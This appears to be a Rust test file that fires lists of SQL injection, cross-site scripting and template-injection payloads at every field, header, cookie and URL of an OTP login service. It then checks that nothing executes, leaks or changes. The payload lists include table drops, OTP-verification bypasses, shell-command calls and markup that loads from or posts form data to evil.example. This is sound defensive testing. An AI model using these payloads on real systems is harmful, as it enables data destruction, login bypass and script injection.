//! What attackers type: SQL, markup and templates in every field, header, cookie and address of SQLite's service.

use otp_storage::Down;
use poem::Request;
use poem::http::{HeaderValue, Method, header};
use serde_json::json;
use url::form_urlencoded::byte_serialize;

use crate::browser::{Browser, encode};
use crate::house::{House, Page};

const SQL: [&str; 50] = [
    "OR 1=1 --",
    "OR '1'='1",
    "OR 'a'='a' --",
    "OR 1=1 /*",
    "OR 1=1#",
    "OR 1=1;%00",
    "AND 1=2 --",
    "AND SLEEP(5)",
    "AND (SELECT 1 FROM (SELECT SLEEP(5))x)",
    "AND 1=(SELECT COUNT(*) FROM core_otp)",
    "AND 1=randomblob(500000000)",
    "AND pg_sleep(5)",
    "AND BENCHMARK(50000000,MD5(1))",
    "UNION SELECT NULL",
    "UNION SELECT NULL,NULL,NULL",
    "UNION ALL SELECT otp_code FROM core_otp",
    "UNION SELECT sql FROM sqlite_master",
    "UNION SELECT load_extension('x')",
    "UNION SELECT table_name FROM information_schema.tables",
    "UNION SELECT @@version",
    "UNION SELECT version()",
    "; DROP TABLE core_otp",
    "; DROP TABLE core_customer --",
    "; DELETE FROM core_session",
    "; UPDATE core_otp SET is_verified=1",
    "; INSERT INTO core_customer VALUES (1)",
    "; ATTACH DATABASE 'x' AS y",
    "; PRAGMA writable_schema=1",
    "; VACUUM INTO '/tmp/x'",
    "; SELECT pg_sleep(5) --",
    "; COPY x TO PROGRAM 'id'",
    "; WAITFOR DELAY '0:0:5' --",
    "; EXEC xp_cmdshell('id')",
    "; SHUTDOWN",
    "LIKE '%'",
    "IS NOT NULL",
    "GLOB '*'",
    "ORDER BY 99",
    "GROUP BY 1 HAVING 1=1",
    "LIMIT 1 OFFSET 1",
    "|| (SELECT 1)",
    "+ (SELECT 1) +",
    "AND EXTRACTVALUE(1,CONCAT(0x7e,VERSION()))",
    "AND CAST((SELECT 1) AS int)",
    "AND 1=CONVERT(int,@@version)",
    "PROCEDURE ANALYSE()",
    "INTO OUTFILE '/tmp/x'",
    "RLIKE '.*'",
    "$1 :1 @p1 ?1",
    "{fn now()}",
];

/// How the text before an injection is left.
const LEFT_BY: [&str; 6] = ["", "' ", "\" ", "1) ", "')) ", "\\' "];

const MARKUP: [&str; 40] = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example></script>",
    "</script><script>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert`1`>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script>",
    "<svg/onload=alert(1)//",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<math><a xlink:href=javascript:alert(1)>x",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=//evil.example><input name=otp_code>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>@import '//evil.example'</style>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example>",
    "<video><source onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=alert(1) x=\"",
    "\"/><img src=x onerror=alert(1)>",
    "{{ 7 * 191 }}",
    "{% if true %}{{ 7 * 191 }}{% endif %}",
    "${7*191}",
    "<%= 7 * 191 %>",
    "#{7*191}",
    "</textarea></title><script>alert(1)</script>",
];

/// Sends `attack` in everything that can be sent; returns what was answered.
async fn everywhere(house: &House, browser: &mut Browser<'_>, attack: &str) -> Vec<Page> {
    let mut pages = Vec::new();
    let in_address: String = byte_serialize(attack.as_bytes()).collect();
    let in_path = in_address.replace('+', "%20");
    for path in [
        format!("/otp/request/?next={in_address}&{in_address}={in_address}"),
        format!("/problems/{in_path}"),
        format!("/static/{in_path}"),
        format!("/{in_path}"),
        format!("/api/v1/otps/{in_path}"),
        format!("/api/v1/stats?since={in_address}"),
        format!("/api/v1/stats?purpose={in_address}"),
    ] {
        let request = Request::builder().uri(path.parse().unwrap());
        pages.push(house.send(request.finish()).await);
    }
    if let Ok(value) = HeaderValue::from_str(attack) {
        for path in [
            "/otp/request/",
            "/otp/verify/",
            "/otp/done/",
            "/otp/admin/",
            "/api/v1/stats",
        ] {
            pages.push(house.send(with_headers(path, &value)).await);
        }
    }
    let token = browser.form_token.clone();
    for (path, fields) in [
        (
            "/otp/request/",
            [("contact_type", attack), ("contact_value", attack)],
        ),
        (
            "/otp/request/",
            [("contact_type", "email"), ("contact_value", attack)],
        ),
        (
            "/otp/request/",
            [("contact_type", "phone"), ("contact_value", attack)],
        ),
        (
            "/otp/request/",
            [(attack, attack), ("contact_type", "email")],
        ),
    ] {
        pages.push(browser.submit(path, &fields).await);
    }
    pages.push(
        browser
            .submit("/otp/verify/", &[("otp_code", attack)])
            .await,
    );
    pages.push(
        browser
            .submit("/otp/admin/login/", &[("api_key", attack)])
            .await,
    );
    let forged = encode(&[("csrf_token", attack), ("otp_code", "000000")]);
    pages.push(browser.post("/otp/verify/", &[], forged).await);
    browser.form_token = token;
    for (path, body) in [
        (
            "/api/v1/otps",
            json!({"contact_type": attack, "contact_value": attack}),
        ),
        (
            "/api/v1/otps",
            json!({"contact_type": "email", "contact_value": attack, "locale": attack}),
        ),
        (
            "/api/v1/otps",
            json!({"contact_type": "email", "contact_value": "a@example.com", "purpose": attack}),
        ),
        ("/api/v1/otps", json!({attack: attack})),
        (
            "/api/v1/verify",
            json!({"contact_type": "email", "contact_value": "a@example.com", "otp_code": attack}),
        ),
    ] {
        let call = Request::builder().method(Method::POST).uri_str(path);
        let call = call.content_type("application/json").body(body.to_string());
        pages.push(house.send(call).await);
    }
    pages
}

/// A request with `value` in every header and cookie that anything reads.
fn with_headers(path: &str, value: &HeaderValue) -> Request {
    let mut request = Request::builder().uri(path.parse().unwrap());
    for name in [
        "user-agent",
        "referer",
        "accept-language",
        "x-forwarded-for",
        "x-forwarded-host",
        "forwarded",
        "x-request-id",
        "traceparent",
        "idempotency-key",
    ] {
        request = request.header(name, value);
    }
    for cookie in ["browser", "flow", "session", "notice", "next", "admin"] {
        let pair = [format!("otp_{cookie}=").as_bytes(), value.as_bytes()].concat();
        request = request.header(header::COOKIE, HeaderValue::from_bytes(&pair).unwrap());
    }
    request.finish()
}

#[tokio::test]
async fn nothing_that_is_typed_becomes_sql() {
    let house = House::new().await;
    house.add_test_customer().await;
    let mut owner = Browser::signed_in(&house).await;
    let mut attacker = Browser::waiting(&house).await;
    let (issued, flow) = (house.issued().await, attacker.flow());
    house.take_messages().await;
    let before = house.bench.subject.otps.find(flow).await.unwrap();
    for left_by in LEFT_BY {
        for sql in SQL {
            let attack = format!("{left_by}{sql}");
            for page in everywhere(&house, &mut attacker, &attack).await {
                assert!(page.status < 500, "{attack}: {} {}", page.status, page.text);
            }
        }
    }
    assert_eq!(
        (house.issued().await, house.take_messages().await),
        (issued, 0)
    );
    assert_eq!(house.bench.subject.otps.find(flow).await.unwrap(), before);
    owner.open("/otp/done/").await.says("Test &lt;User&gt;");
    let code = house.code(flow).await;
    attacker.verify(&code).await.leads_to("/otp/done/");
}

#[tokio::test]
async fn nothing_that_is_typed_becomes_markup() {
    let house = House::new().await;
    let mut browser = Browser::waiting(&house).await;
    let mut shown = 0;
    for attack in MARKUP {
        for page in everywhere(&house, &mut browser, attack).await {
            assert!(page.status < 500, "{attack}: {} {}", page.status, page.text);
            if !page.header("content-type").starts_with("text/html") {
                continue;
            }
            assert!(
                !page.text.contains("1337"),
                "{attack} was computed: {}",
                page.text
            );
            if attack.contains(['<', '"']) {
                assert!(
                    !page.text.contains(attack),
                    "{attack} stands in {}",
                    page.text
                );
                shown += usize::from(page.text.contains("alert(1)"));
            }
        }
    }
    assert!(
        shown > MARKUP.len(),
        "forms show what was typed, as text: {shown}"
    );
}

#[tokio::test]
async fn a_failure_names_no_table_no_file_and_no_version() {
    let house = House::new().await;
    let mut browser = Browser::waiting(&house).await;
    let id = browser.flow().as_uuid().to_string();
    house
        .database
        .migrations()
        .down(Down::To("zero".to_owned()))
        .await
        .unwrap();
    let mut pages = vec![
        browser.open("/otp/verify/").await,
        browser.verify("000000").await,
        browser.submit("/otp/resend/", &[]).await,
        browser.request("email", "test@example.com").await,
    ];
    for (method, path) in [
        (Method::GET, format!("/api/v1/otps/{id}")),
        (Method::DELETE, format!("/api/v1/otps/{id}")),
        (Method::POST, format!("/api/v1/otps/{id}/resend")),
        (Method::GET, "/api/v1/stats".to_owned()),
    ] {
        let call = Request::builder().method(method).uri_str(path);
        pages.push(house.send(call.finish()).await);
    }
    for page in pages {
        assert_eq!(page.status, 500, "{}", page.text);
        let text = page.text.to_lowercase();
        for inner in [
            "core_",
            "select",
            "sqlite",
            "no such",
            "panicked",
            ".rs",
            env!("CARGO_PKG_VERSION"),
        ] {
            assert!(!text.contains(inner), "{inner} in {text}");
        }
    }
}
